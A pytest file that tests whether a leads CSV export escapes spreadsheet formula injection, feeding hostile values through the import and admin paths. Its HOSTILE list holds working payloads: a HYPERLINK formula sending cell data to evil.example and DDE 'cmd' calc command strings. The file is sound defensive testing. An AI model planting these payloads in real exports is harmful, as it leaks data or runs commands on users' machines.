"""CSV formula injection: every text cell of every export is inert in a spreadsheet.

Hostile values go in through the front doors that feed the export (the creator-stats import
for categories, the admin for display names) and come out of the Leads Pool export with a
leading `'` wherever a spreadsheet would have run them as a formula.
"""

import csv
import datetime as dt
import io

import pytest

from core.clock import business_today
from core.export import FORMULA_STARTS, csv_lines, safe_cell
from creators.models import Creator, Tier
from creators.services import creator_stats_import, stats_rows_parse
from leads.export import HEADER
from leads.services import collaboration_request_submit
from tests.factories import CreatorUserFactory, SellerFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported(client) -> list[dict]:
    response = client.get("/api/v1/leads/export.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_every_text_cell_of_the_generic_writer_is_guarded():
    row = [*HOSTILE, "plain", 42, "", None]
    line = next(iter(list(csv_lines([f"c{i}" for i in range(len(row))], [row]))[1:]))
    cells = next(csv.reader(io.StringIO(line)))
    assert cells[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert cells[len(HOSTILE) :] == ["plain", "42", "", ""]
    assert safe_cell(-5) == -5  # numbers stay numbers


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_imported_values_come_out_inert_in_every_column(client, hostile):
    seller = SellerFactory()
    creator = CreatorUserFactory(handle="hostile_one", tier=Tier.GOLD)
    # The admin sets the display name; the feed import brings the category.
    Creator.objects.filter(pk=creator.pk).update(display_name=hostile)
    rows = stats_rows_parse(
        [
            {
                "handle": "hostile_one",
                "date": (business_today() - dt.timedelta(days=1)).isoformat(),
                "live_gmv_usd": "10.00",
                "followers": 5,
                "top_category": hostile[:64],
            }
        ]
    )
    creator_stats_import(rows=rows)
    creator.refresh_from_db()
    collaboration_request_submit(creator=creator, partner=seller.partner, consent=True)
    client.force_login(seller.user)

    [row] = exported(client)
    assert list(row) == HEADER
    for column, cell in row.items():
        assert not cell.startswith(FORMULA_STARTS), (column, cell)
    assert row["display_name"] == "'" + hostile
    # The feed trims the cell's white space; what is left still starts a formula.
    assert row["top_categories"] == "'" + hostile.strip()[:64]
